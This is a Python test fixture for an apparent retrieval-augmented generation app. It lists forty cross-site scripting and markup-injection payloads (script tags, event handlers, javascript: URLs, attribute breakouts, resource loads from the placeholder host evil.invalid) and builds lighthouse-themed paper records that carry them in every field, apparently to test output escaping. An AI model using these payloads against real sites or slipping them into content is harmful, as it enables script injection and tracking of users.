"""Texts that would act if any of them were taken for markup, a link or a script, and papers made of them."""

from __future__ import annotations

from rag.paper import Paper

EVIL = "http://evil.invalid"

PAYLOADS = [
    f'<img src="{EVIL}/1.png">',
    f'<img srcset="{EVIL}/2.png 2x">',
    "<img src=x onerror=alert(3)>",
    f'<form action="{EVIL}/4"><input name=q><button>Go</button></form>',
    "<script>alert(5)</script>",
    f'<script src="{EVIL}/6.js"></script>',
    f'<link rel="stylesheet" href="{EVIL}/7.css">',
    f'<link rel="prefetch" href="{EVIL}/8">',
    f"<style>@import url({EVIL}/9.css);body{{display:none}}</style>",
    f'<iframe src="{EVIL}/10"></iframe>',
    '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
    f'<object data="{EVIL}/12"></object>',
    f'<embed src="{EVIL}/13">',
    f'<video src="{EVIL}/14" autoplay></video>',
    f'<audio src="{EVIL}/15" autoplay></audio>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/16">',
    f'<base href="{EVIL}/17/">',
    "<svg onload=alert(18)>",
    f'<svg><image href="{EVIL}/19.png"/><use href="{EVIL}/19.svg#a"/></svg>',
    f'<math><maction actiontype="statusline" xlink:href="{EVIL}/20">x</maction></math>',
    '<a href="javascript:alert(21)">x</a>',
    "javascript:alert(22)",
    "data:text/html,<script>alert(23)</script>",
    f"![x]({EVIL}/24.png)",
    "[x](javascript:alert(25))",
    '" onmouseover="alert(26)" x="',
    "' onfocus='alert(27)' autofocus='",
    "</details></article></main><h1>out 28</h1>",
    "</textarea></title></script><script>alert(29)</script>",
    f'<div style="background:url({EVIL}/30.png);position:fixed;inset:0">30</div>',
    "{{constructor.constructor('alert(31)')()}} ${alert(31)} <%= 31 %>",
    rf"$\href{{javascript:alert(32)}}{{x}}$ $\includegraphics{{{EVIL}/32.png}}$",
    r"$\style{background:url(http://evil.invalid/33.png)}{x}$ $<img src=x onerror=alert(33)>$",
    f"<!--> <img src={EVIL}/34.png> -->",
    "<![CDATA[<script>alert(35)</script>]]>",
    "&lt;script&gt;alert(36)&lt;/script&gt; &#60;script&#62;alert(36)&#60;/script&#62;",
    f"<source src={EVIL}/37><track src={EVIL}/37.vtt default>",
    f"<input type=image src={EVIL}/38.png formaction={EVIL}/38>",
    "<details open ontoggle=alert(39)>",
    f'<portal src="{EVIL}/40"></portal><template><img src="{EVIL}/40.png"></template>',
]


def papers() -> list[Paper]:
    """A paper for each payload, which holds it in every field as no reader has cleaned it, all about one topic."""
    return [
        Paper(
            f"Lighthouse {n} {payload}",
            f"Study {n} of lighthouse lamps. The lighthouse lamp {payload} burns {n} hours. It is bright.",
            (f"Keeper {n} {payload}",),
            1900 + n,
            url=payload if n % 2 else f"https://example.org/{payload}",
            source=payload,
        )
        for n, payload in enumerate(PAYLOADS, 1)
    ]
